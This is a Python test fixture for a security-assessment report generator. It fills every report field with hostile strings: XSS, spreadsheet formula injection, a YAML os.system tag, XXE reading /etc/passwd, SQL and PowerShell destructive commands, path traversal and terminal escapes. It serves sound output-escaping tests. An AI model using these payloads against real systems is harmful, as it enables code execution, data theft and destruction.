"""Values that try every grammar that a report is written in, and an Assessment that carries them in every field."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from tests.unit.report.assessments import assessment, bundle, coverage, row, rule_info, server

from exposture.model.assessment import (
    AsOf,
    Assessment,
    ConversionInfo,
    Gap,
    InputFile,
    Organization,
    ProfileUse,
    RuleInfo,
    RulePack,
    Tool,
)

VALUES = {
    "html": '<script>alert(1)</script><img src=x onerror=alert(1)><b id="pwned">x</b>',
    "html_end": '--></style></script></title></textarea><iframe src="file:///etc/passwd"></iframe>',
    "attribute": '" onmouseover="alert(1)" style="background:url(http://192.0.2.1/x)" \' autofocus onfocus=alert(1) x=\'',
    "svg": '<svg onload=alert(1)><image href="http://192.0.2.1/a.png"/><use href="file:///etc/passwd#x"/></svg>',
    "css": '</style><style>@import "http://192.0.2.1/a.css";body{background:url(http://192.0.2.1/b)}</style>',
    "link": '<link rel=attachment href="file:///etc/passwd"><a rel=attachment href="file:///etc/passwd">x</a><base href="http://192.0.2.1/">',
    "script_url": "javascript:alert(1)",
    "pdf": ") /JavaScript /JS (app.alert(1)) /Launch /URI (http://192.0.2.1) endobj stream",
    "jinja": "{{ 7 * 7 }}{% include '/etc/passwd' %}{# gone #}",
    "json": '"}]}</script><!-- <script> \\u003c \u2028 \u2029',
    "powershell": "'; Remove-Mailbox * #\u2018\u2019\u201a\u201b\u201c\u201d\u201e `$( Get-Process ) \r\n Get-Process",
    "bidi": "invoice\u202egpj.exe\u2066\u200f\u200b\ufeff\u00ad",
    "control": "bell\x07 escape\x1b[31m null\x00 tab\t del\x7f c1\x9b lines\r\nnext\u2028para\u2029",
    "formula": "=cmd|'/c calc'!A0",
    "marks": "Z" + "\u0301" * 5_000,
    "long": "A" * 100_000,
    "spaces": "a " * 50_000,
    "scripts": "日本語 עברית العربية 한국어 😀",
    "empty": "",
    "refresh": '<meta http-equiv=refresh content="0;url=http://192.0.2.1"><form action=http://192.0.2.1><button formaction=javascript:alert(1)>',
    "foreign": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'><plaintext><![CDATA[ ]]>",
    "entities": "&lt;script&gt;&#60;img&#62; &amp;amp; &#x202e; &nbsp;&zwnj;&unknown;",
    "declaration": "expression(alert(1)); } * { background: url(data:image/svg+xml,x) } @font-face { src: local(x) } /* \\22 */",
    "markdown": "[x](javascript:alert(1)) ![p](http://192.0.2.1/p.png) | a | b |\n# head\n```\n<details open>\n> quote\n1. one",
    "csv_minus": "-2+3+cmd|' /C calc'!A0",
    "csv_at": '@SUM(1+9)*cmd|\'/C calc\'!A0","=1"\r\n=2;+3',
    "csv_tab": '\t=HYPERLINK("http://192.0.2.1")',
    "csv_return": "\r=1",
    "csv_wide": "\uff1d1+1",
    "xlsx_url": "http://192.0.2.1/",
    "xlsx_external": "external:\\\\192.0.2.1\\share\\a.xlsx#Sheet1!A1",
    "xlsx_internal": "internal:Sheet1!A1",
    "xlsx_mail": "mailto:a@example.com?attach=/etc/passwd",
    "cell": "x" * 32_768,
    "sarif": "see [this](1) and {0} in file:///etc/passwd#L1 \u2028 %SRCROOT%/../../x",
    "placeholder": "{subject.__class__.__init__.__globals__} {0} {} %s %(x)s ${x} $(x) {{",
    "rich": "[/nope] [link=http://192.0.2.1]here[/link] [bold red]x[/] :smile: [@click=app.quit]y",
    "terminal": "\x1b]8;;http://192.0.2.1\x1b\\here\x1b]8;;\x1b\\ \x1b]52;c;YQ==\x07 \x1b]0;title\x07 \x9b2J \x90q\x9c \x08\x08\x08 over\rwritten",
    "tags": "plain\U000e0061\U000e0062\U000e007f\u2062\u206e\u180e",
    "comment": "#> Remove-Mailbox <# \r\n@'\r\n'@ @\"\n\"@ --% `n \u2028Get-Process",
    "yaml": "a: &b [*b]\n--- !!python/object/apply:os.system ['id']\n? {<<: *c}\n# x\n'\"|>",
    "path": "..\\..\\/etc/passwd/C:\\con|NUL:stream%2e%2e%2f",
    "xml": "]]><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;<?pi?>",
    "sql": "'; DROP TABLE results; --\"$$",
    "normal_form": "\u1e69\u0073\u0323\u0307 \ufb01 \u2126 \u0130\u0131",
}
PARAGRAPH = 4_000
"""Values up to this length stand together in one report of many findings; the longer ones fill one alone."""


def hostile_rule(value: str, rule_id: str = "RCV-001", **changes: Any) -> RuleInfo:
    """Return a published rule whose every text is the value."""
    values: dict[str, Any] = {
        **dict.fromkeys(("title", "area", "severity_reason", "rationale", "question", "message", "status", "notes", "revision"), value),
        "exceptions": [value],
        "remediation": {
            **dict.fromkeys(("kind", "per", "effort", "precheck", "change", "verify", "rollback", "impact"), value),
            "restarts": [value],
            "inputs": {value: "subject", "other": value},
        },
        "references": [{"title": value, "url": value, "read": value}, {"title": value, "url": "https://example.com/a", "read": value}],
        "mappings": {value: [value]},
    }
    return rule_info(rule_id, **values | changes)


def hostile_rows(value: str, rule_id: str = "RCV-001") -> list[dict[str, Any]]:
    """Return a result of each outcome that has the value in every text."""
    common: dict[str, Any] = {
        "server": value,
        "subject": value,
        "message": value,
        "would_change": [value],
        "because_of": [value],
        "sources": [{"dataset": value, "target": value, "file": value, "properties": [value]}],
        "evidence": {value: value, "list": [value], "number": 1.5, "nothing": None, "empty": []},
    }
    outcomes = ["fail", "unknown", "manual", "error", "pass", "not_applicable"]
    return [row(rule_id, outcome=outcome, sub_key=outcome + value, reason=value, **common) for outcome in outcomes]


def together(values: Mapping[str, str]) -> Assessment:
    """Return an Assessment with a rule and its results for each value."""
    rules = {f"RCV-{number:03}": value for number, value in enumerate(values.values(), start=1)}
    rows = [line for rule_id, value in rules.items() for line in hostile_rows(value, rule_id)[:1]]
    return assessment(rows, rules=[hostile_rule(value, rule_id) for rule_id, value in rules.items()])


def hostile(value: str) -> Assessment:
    """Return an Assessment that has the value wherever text of a bundle, of site.yaml or of a foreign document can stand."""
    rows = hostile_rows(value)
    rows[0]["finding_id"] = value
    broken = InputFile(path=value, state=value, integrity=value, message=value)
    return assessment(
        rows,
        rules=[hostile_rule(value)],
        tool=Tool(name=value, version=value, rule_pack=RulePack(version=value, sha256=value, data_dates={value: value})),
        profile=ProfileUse(name=value, title=value, parameters={value: {value: value}}, off={value: value}),
        as_of=AsOf(time="2026-08-14T09:30:00", origin=value),
        organization=Organization(name=value, guid=value, forests=[value, value + "2"]),
        bundles=[bundle(name=value, sha256=value, integrity=value, collector_version=value, redaction=value)],
        servers=[server(value, version=value, build=value, roles=[value], site=value, dag=value)],
        coverage=coverage(
            counts=value,
            gaps=[Gap(dataset=value, target=value, status=value, message=value, cure=value)],
            unrecognised=[broken],
            damaged=[broken],
            conversions=[ConversionInfo(dataset=value, column=value, file=value, object_index=0, text=value, reason=value)],
            remarks=[value],
        ),
        site={value: [{value: value, "list": [value]}]},
    )
